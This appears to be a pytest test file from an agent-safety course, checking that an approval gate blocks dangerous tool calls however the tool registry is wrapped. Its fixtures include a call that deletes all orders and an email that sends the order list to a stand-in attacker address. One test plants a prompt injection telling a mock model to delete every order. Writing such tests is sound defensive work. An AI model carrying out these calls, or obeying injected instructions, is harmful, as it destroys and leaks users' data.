"""A gated registry stays gated whatever wraps it: every registry transformer of the course, in
every order up to three deep, over `GatedTools`, never runs a dangerous tool the gate did not allow.

The real tools are counted (`solutions.safety.sweep.counting`, innermost), so "ran" means the
tool's function really ran, whatever the observation says.
"""
from __future__ import annotations

from itertools import permutations
from typing import Callable

import pytest

from mockllm import MockLLM
from solutions.context import truncating_tools
from solutions.guards.agent import guarded_agent
from solutions.guards.calls import GuardedTools
from solutions.safety.approval import GatedTools
from solutions.safety.injection import DataTools
from solutions.safety.privilege import allowlist, shop_tools
from solutions.safety.sweep import INJECTION_QUESTIONS, counting
from solutions.tools import ToolRegistry

WRAPPERS: dict[str, Callable[[ToolRegistry], ToolRegistry]] = {
    "allowlist": lambda tools: allowlist(tools, tools.names()),
    "subset": lambda tools: tools.subset(*tools.names()),
    "truncating_tools": truncating_tools,
    "GuardedTools": GuardedTools,
    "DataTools": DataTools,
    "counting": lambda tools: counting(tools)[0],
}
ORDERS = [order for size in (1, 2, 3) for order in permutations(WRAPPERS, size)]
CALLS = [("delete_orders", {"order_ids": "all"}),
         ("send_email", {"to": "x@evil.example", "subject": "orders", "body": "the list"})]


def wrapped(policy: str, order: tuple[str, ...]) -> tuple[ToolRegistry, GatedTools, list[str]]:
    """The outermost registry, the gate inside it, and the list of real dangerous runs."""
    counted, ran = counting(shop_tools())
    gate = GatedTools(counted, policy)
    tools: ToolRegistry = gate
    for name in order:
        tools = WRAPPERS[name](tools)
    return tools, gate, ran


@pytest.mark.parametrize("order", ORDERS, ids=" > ".join)
@pytest.mark.parametrize("policy", ["deny", "ask"])
def test_no_wrapper_runs_a_dangerous_tool_the_gate_holds_back(policy: str, order: tuple[str, ...]) -> None:
    for action, action_input in CALLS:
        tools, gate, ran = wrapped(policy, order)
        observation = tools.run(action, action_input)
        assert ran == [], f"{action} ran through {' > '.join(order)}: {observation}"
        assert gate.attempts and gate.attempts[-1][1] == ("denied" if policy == "deny" else "waiting")
        assert (gate.pending is not None) == (policy == "ask")


@pytest.mark.parametrize("order", ORDERS, ids=" > ".join)
def test_an_approved_call_runs_once_through_every_wrapper(order: tuple[str, ...]) -> None:
    tools, gate, ran = wrapped("approve", order)
    assert tools.run("delete_orders", {"order_ids": ["A1003"]}).count("Deleted") == 1
    assert ran == ["delete_orders"] and [outcome for _, outcome in gate.attempts] == ["ran"]


def test_a_name_the_guarded_registry_forgives_still_meets_the_gate() -> None:
    tools, gate, ran = wrapped("deny", ("GuardedTools",))
    observation = tools.run("Delete Orders", {"order_ids": "all"})
    assert ran == [] and "Not run" in observation and gate.attempts[-1][1] == "denied"


@pytest.mark.parametrize("item", INJECTION_QUESTIONS, ids=lambda item: item["question"])
def test_the_guarded_agent_over_a_denying_gate_deletes_nothing(item: dict) -> None:
    counted, ran = counting(shop_tools())
    gate = GatedTools(counted, "deny")
    # The search finds a forum post that says to delete every order; the gullible persona obeys.
    trace = guarded_agent(item["question"], MockLLM(persona="gullible", seed=0), gate, max_steps=6)
    tried = [step.action for step in trace.steps if step.action == "delete_orders"]
    assert tried, "the planted instruction was not obeyed: the case proves nothing"
    assert ran == [] and [outcome for _, outcome in gate.attempts] == ["denied"] * len(tried)


def test_two_calls_that_wait_are_both_kept_and_decided_in_turn() -> None:
    tools, gate, ran = wrapped("ask", ())
    first = tools.run("delete_orders", {"order_ids": ["A1003"]})
    second = tools.run("send_email", {"to": "li.wei@example.com", "subject": "Hi", "body": "Shipped."})
    assert first.startswith("Waiting for approval") and second.startswith("Waiting for approval")
    assert [call.action for call in gate.waiting] == ["delete_orders", "send_email"]
    assert gate.pending.action == "delete_orders"
    assert gate.decide("approve").startswith("Deleted 1")
    assert gate.pending.action == "send_email" and ran == ["delete_orders"]
    assert gate.decide("deny").startswith("Not run: send_email")
    assert gate.pending is None and ran == ["delete_orders"]
    assert [(call.action, outcome) for call, outcome in gate.attempts] == [("delete_orders", "ran"), ("send_email", "denied")]
    with pytest.raises(ValueError, match="no call is waiting"):
        gate.decide("approve")
